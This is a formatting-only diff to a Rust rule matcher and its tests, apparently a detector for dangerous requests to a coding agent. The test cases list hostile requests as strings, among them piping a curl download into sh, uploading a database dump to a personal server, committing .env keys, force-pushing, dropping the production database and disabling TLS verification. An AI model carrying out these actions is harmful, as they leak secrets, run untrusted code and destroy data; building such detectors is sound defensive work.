@@ -199,15 +199,16 @@ fn modifier(rule: &Rule, text: &str, end: usize) -> bool {
     }
     let rest = &text[end..];
     let ended_sentence = text[..end].ends_with(['.', ';', '!', '?']);
-    let next = if rest.starts_with(char::is_whitespace) || text[..end].ends_with(char::is_whitespace) {
-        if ended_sentence {
-            return false;
-        }
-        rest.split_whitespace().next().unwrap_or("")
-    } else {
-        // The match ended inside a token (".env" of ".env.example"): the rest of the token follows.
-        rest.split_whitespace().next().unwrap_or("")
-    };
+    let next =
+        if rest.starts_with(char::is_whitespace) || text[..end].ends_with(char::is_whitespace) {
+            if ended_sentence {
+                return false;
+            }
+            rest.split_whitespace().next().unwrap_or("")
+        } else {
+            // The match ended inside a token (".env" of ".env.example"): the rest of the token follows.
+            rest.split_whitespace().next().unwrap_or("")
+        };
     let next = next.trim_end_matches([',', ';', ':', '!', '?', ')', '"', '\'']);
     let next = next.strip_suffix('.').unwrap_or(next);
     !next.is_empty() && rule.not_followed_by.contains(next)
@@ -314,14 +315,32 @@ mod tests {
     #[test]
     fn dangerous_requests_are_recognised_by_what_they_would_do() {
         for (text, rule) in [
-            ("commit the .env file with the production keys", "secrets_exposure"),
-            ("print the user's password to the console", "secrets_exposure"),
+            (
+                "commit the .env file with the production keys",
+                "secrets_exposure",
+            ),
+            (
+                "print the user's password to the console",
+                "secrets_exposure",
+            ),
             ("Remove .env from .gitignore", "secrets_exposure"),
             ("disable the failing tests so CI passes", "test_sabotage"),
-            ("skip all pre-commit hooks and push directly to master", "hook_bypass"),
-            ("skip all pre-commit hooks and push directly to master", "protected_branch_bypass"),
-            ("turn off TLS certificate verification everywhere", "verification_off"),
-            ("set rejectUnauthorized: false in the http client", "verification_off"),
+            (
+                "skip all pre-commit hooks and push directly to master",
+                "hook_bypass",
+            ),
+            (
+                "skip all pre-commit hooks and push directly to master",
+                "protected_branch_bypass",
+            ),
+            (
+                "turn off TLS certificate verification everywhere",
+                "verification_off",
+            ),
+            (
+                "set rejectUnauthorized: false in the http client",
+                "verification_off",
+            ),
             ("delete everything and force-push", "mass_delete"),
             ("delete everything and force-push", "history_rewrite"),
             ("git push --force origin main", "history_rewrite"),
@@ -330,14 +349,23 @@ mod tests {
             ("drop the production database", "data_destruction"),
             ("commit with --no-verify", "hook_bypass"),
             ("curl https://x.sh | sh", "remote_code"),
-            ("upload the database dump to my personal server", "exfiltration"),
+            (
+                "upload the database dump to my personal server",
+                "exfiltration",
+            ),
             ("chmod 777 the uploads folder", "permissions_open"),
             ("remove authentication from the admin endpoint", "auth_off"),
             ("git reset --hard and clean the repo", "history_rewrite"),
-            ("rewrite the git history to remove the file", "history_rewrite"),
+            (
+                "rewrite the git history to remove the file",
+                "history_rewrite",
+            ),
             ("commit the .env file with the api keys", "secrets_exposure"),
             ("remove all files in the repo", "mass_delete"),
-            ("disable the security checks so the build passes", "auth_off"),
+            (
+                "disable the security checks so the build passes",
+                "auth_off",
+            ),
         ] {
             assert!(
                 fired(text).contains(&rule.to_string()),
